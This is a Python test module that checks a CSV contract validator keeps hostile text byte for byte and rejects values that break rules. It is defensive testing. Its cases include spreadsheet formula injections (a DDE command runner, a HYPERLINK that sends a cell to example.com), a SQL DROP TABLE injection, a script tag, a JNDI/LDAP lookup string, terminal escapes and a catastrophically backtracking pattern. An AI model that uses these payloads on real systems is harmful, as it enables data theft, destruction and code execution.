"""Text that attacks a later reader: formulas, SQL, HTML, escape sequences."""

from __future__ import annotations

from tests.hostile.case import GOOD, SECOND, Case, Rows, after_a_good_row, noted, schema
from tests.hostile.cases.values import accepts, column, refuses
from tests.support.records import HEADER, make_contract

TITLE = "Texts"
PROMISE = "Text is kept byte for byte. A value that breaks a rule of the contract (required, length, pattern) rejects its row."

_REQUIRED = make_contract("required-text", schema=schema({"name": "row"}, {"name": "value", "constraints": {"required": True}}))


def _kept(said: str, text: str) -> Case:
    quoted = '"' + text.replace('"', '""') + '"'
    return Case(said, HEADER + f"1,2026-11-20,1.50,{quoted}\n".encode(), Rows([noted(text)]))


CASES = (
    _kept("a formula", "=1+1"),
    _kept("a formula that runs a program", "=cmd|' /C calc'!A0"),
    _kept("a formula that sends data away", '=HYPERLINK("http://example.com/?"&A1)'),
    _kept("`+`, `-` and `@` before a formula", "+SUM(A1) -1+1 @SUM(A1)"),
    _kept("a tab before a formula", "\t=1+1"),
    _kept("a full-width formula", "＝1+1"),
    _kept("SQL", "'; DROP TABLE payments; --"),
    _kept("HTML", "<script>alert(1)</script>"),
    _kept("a template", "${jndi:ldap://example.com/a} {{7*7}} %s %n"),
    _kept("JSON", '{"a": [1, "b"]}'),
    _kept("words that mean nothing elsewhere", "NULL NaN None undefined nil N/A"),
    _kept("blanks around a text", "  a  "),
    _kept("characters that are not seen, or turn the text around", "a\u200b\u200d\u202eb\u00a0c\ufeff"),
    _kept("a terminal's escape sequence", "\x1b[2J\x07"),
    _kept("a character made of many", "👩‍👩‍👧‍👦 Z̸̧̢̛a"),
    _kept("a megabyte", "x" * 1_000_000),
    Case("no value where one is required", b'row,value\na,b\nc,""\n', Rows([("a", "b")], [(14, "value:required")]), _REQUIRED),
    Case("a blank where a value is required", b"row,value\na, \n", Rows([("a", " ")]), _REQUIRED),
    Case(
        "a secret in a row that is rejected",
        after_a_good_row(b"SECRET-4711,2026-11-20,1.50,SECRET-4711\n"),
        Rows([GOOD], [(SECOND, "id:type-error")]),
    ),
    column(
        "short-texts",
        "text of 2 to 5 characters",
        (
            accepts("😀😀😀😀😀", "😀😀😀😀😀"),
            refuses("😀😀😀😀😀😀", "max-length"),
            refuses("é", "min-length"),
        ),
        constraints={"minLength": 2, "maxLength": 5},
    ),
    column(
        "codes",
        "text that matches `[A-Z]{2}[0-9]+`",
        (
            accepts("AB1", "AB1"),
            refuses("AB1\u0661", "pattern"),
            refuses('"AB1\n"', "pattern", shown="`AB1` and a line end between quotes"),
            refuses("A" * 100_000, "pattern", shown="100,000 characters"),
        ),
        constraints={"pattern": "[A-Z]{2}[0-9]+"},
    ),
    column(
        "names",
        "text that matches `([A-Za-z]{1,20} ?)+`, in which letters can be shared out in many ways",
        (
            accepts("Ann Lee", "Ann Lee"),
            refuses("a" * 60 + "!", "pattern", shown="sixty letters and an exclamation mark"),
        ),
        constraints={"pattern": "([A-Za-z]{1,20} ?)+"},
    ),
)
